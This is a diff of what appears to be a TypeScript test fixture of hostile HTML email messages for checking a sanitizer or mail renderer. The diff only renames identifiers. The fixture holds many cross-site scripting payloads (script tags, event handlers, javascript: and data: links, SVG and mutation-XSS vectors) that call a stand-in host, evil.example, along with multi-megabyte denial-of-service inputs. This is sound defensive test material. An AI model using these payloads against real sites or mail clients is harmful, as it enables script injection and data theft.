@@ -8,9 +8,9 @@ export interface HostileMessage {
 export const visibleText = 'Kính gửi anh chị'
 
 /** Script of these messages: it marks the page and sends a request. */
-const run = "top.owned=1;document.title='owned';fetch('https://evil.example/script')"
+const attackScript = "top.owned=1;document.title='owned';fetch('https://evil.example/script')"
 const visible = `<p>${visibleText}</p>`
-const nest = (times: number, open: string, inside: string, close: string) =>
+const nestTags = (times: number, open: string, inside: string, close: string) =>
   open.repeat(times) + inside + close.repeat(times)
 
 const message = (name: string, html: string): HostileMessage => ({ name, html })
@@ -19,19 +19,19 @@ const message = (name: string, html: string): HostileMessage => ({ name, html })
 export const scripts: readonly HostileMessage[] = [
   message(
     'script elements',
-    `${visible}<script>${run}</script><SCRIPT/SRC=https://evil.example/x.js></SCRIPT>`,
+    `${visible}<script>${attackScript}</script><SCRIPT/SRC=https://evil.example/x.js></SCRIPT>`,
   ),
   message(
     'handlers on everything',
-    `${visible}<img src=x onerror="${run}"><body onload="${run}"><details open ontoggle="${run}"><summary>a</summary></details><marquee onstart="${run}">b</marquee><p onpointerenter="${run}" onanimationstart="${run}" style="animation:x 1s" tabindex=1 autofocus onfocus="${run}">c</p>`,
+    `${visible}<img src=x onerror="${attackScript}"><body onload="${attackScript}"><details open ontoggle="${attackScript}"><summary>a</summary></details><marquee onstart="${attackScript}">b</marquee><p onpointerenter="${attackScript}" onanimationstart="${attackScript}" style="animation:x 1s" tabindex=1 autofocus onfocus="${attackScript}">c</p>`,
   ),
   message(
     'links that run',
-    `${visible}<a href="javascript:${run}">javascript</a> <a href="jAvA&Tab;script:${run}">hidden</a> <a href="data:text/html,<script>${run}</script>">data</a> <a href="vbscript:x">vb</a><map name=m><area href="javascript:${run}"></map>`,
+    `${visible}<a href="javascript:${attackScript}">javascript</a> <a href="jAvA&Tab;script:${attackScript}">hidden</a> <a href="data:text/html,<script>${attackScript}</script>">data</a> <a href="vbscript:x">vb</a><map name=m><area href="javascript:${attackScript}"></map>`,
   ),
   message(
     'frames, objects and forms',
-    `${visible}<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>${run}</script>"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e"><applet code=x></applet><form action="https://evil.example/f"><input name=q autofocus onfocus="${run}"><button formaction="javascript:${run}">Nhận quà</button></form><frameset onload="${run}"><frame src="javascript:${run}"></frameset>`,
+    `${visible}<iframe src="https://evil.example/frame"></iframe><iframe srcdoc="<script>${attackScript}</script>"></iframe><object data="https://evil.example/o"></object><embed src="https://evil.example/e"><applet code=x></applet><form action="https://evil.example/f"><input name=q autofocus onfocus="${attackScript}"><button formaction="javascript:${attackScript}">Nhận quà</button></form><frameset onload="${attackScript}"><frame src="javascript:${attackScript}"></frameset>`,
   ),
   message(
     'refresh, base and link',
@@ -39,17 +39,17 @@ export const scripts: readonly HostileMessage[] = [
   ),
   message(
     'SVG with animation, use and foreignObject',
-    `${visible}<svg width=900 height=900 onload="${run}"><script>${run}</script><a><animate attributeName=href values="javascript:${run}" /><text y=20>x</text></a><use href="https://evil.example/s.svg#a"/><use href="data:image/svg+xml;base64,PHN2ZyBpZD0iYSIvPg==#a"/><foreignObject width=900 height=900><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${run}"></iframe></foreignObject><image href="https://evil.example/i.png"/><set attributeName=onmouseover to="${run}"/><style>@import "https://evil.example/svg.css";</style></svg><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${run}'/>">`,
+    `${visible}<svg width=900 height=900 onload="${attackScript}"><script>${attackScript}</script><a><animate attributeName=href values="javascript:${attackScript}" /><text y=20>x</text></a><use href="https://evil.example/s.svg#a"/><use href="data:image/svg+xml;base64,PHN2ZyBpZD0iYSIvPg==#a"/><foreignObject width=900 height=900><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:${attackScript}"></iframe></foreignObject><image href="https://evil.example/i.png"/><set attributeName=onmouseover to="${attackScript}"/><style>@import "https://evil.example/svg.css";</style></svg><img src="data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${attackScript}'/>">`,
   ),
   message(
     'templates, custom elements and portals',
-    `${visible}<template shadowrootmode=open><script>${run}</script><slot></slot></template><x-a is=x onclick="${run}"></x-a><portal src="https://evil.example/portal"></portal><video autoplay src="https://evil.example/v" onloadstart="${run}"><track src="https://evil.example/t"></video><audio src="https://evil.example/a" autoplay></audio><picture><source srcset="https://evil.example/s.png"><img src=x></picture>`,
+    `${visible}<template shadowrootmode=open><script>${attackScript}</script><slot></slot></template><x-a is=x onclick="${attackScript}"></x-a><portal src="https://evil.example/portal"></portal><video autoplay src="https://evil.example/v" onloadstart="${attackScript}"><track src="https://evil.example/t"></video><audio src="https://evil.example/a" autoplay></audio><picture><source srcset="https://evil.example/s.png"><img src=x></picture>`,
   ),
 ]
 
 /** Mutation: content that changes when it is parsed again. */
 export const mutations: readonly HostileMessage[] = [
-  `<svg></p><style><a id="</style><img src=1 onerror=${run.replaceAll("'", '')}>">`,
+  `<svg></p><style><a id="</style><img src=1 onerror=${attackScript.replaceAll("'", '')}>">`,
   `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=top.owned=1&gt;">`,
   `<math><mtext><option><FAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src onerror=top.owned=1>">`,
   `<form><math><mtext></form><form><mglyph><style></math><img src onerror=top.owned=1>`,
@@ -99,7 +99,7 @@ export const styles: readonly HostileMessage[] = [
 ]
 
 /** Excessive content. */
-export const masses: readonly HostileMessage[] = [
+export const excessiveMessages: readonly HostileMessage[] = [
   message('five megabytes of nested tables', visible + '<table><tr><td>'.repeat(340_000)),
   message('five megabytes of rows', `${visible}<table>${'<tr><td>x</td></tr>'.repeat(260_000)}</table>`),
   message('a hundred thousand open elements', visible + '<b><i><u><a href=//x>'.repeat(100_000)),
@@ -112,7 +112,7 @@ export const masses: readonly HostileMessage[] = [
     `${visible}<div style="width:20000px;height:20000px">x</div>`.repeat(20),
   ),
   message('a word without end', `${visible}<p>${'a'.repeat(400_000)}</p>`),
-  message('quotations in quotations', nest(3000, '<blockquote type=cite>', visible, '</blockquote>')),
+  message('quotations in quotations', nestTags(3000, '<blockquote type=cite>', visible, '</blockquote>')),
   message(
     'everything unclosed',
     `${visible}<b <i "<a href='x <table><tr><td><style>p{<!-- <![CDATA[ <?php <p class="`,
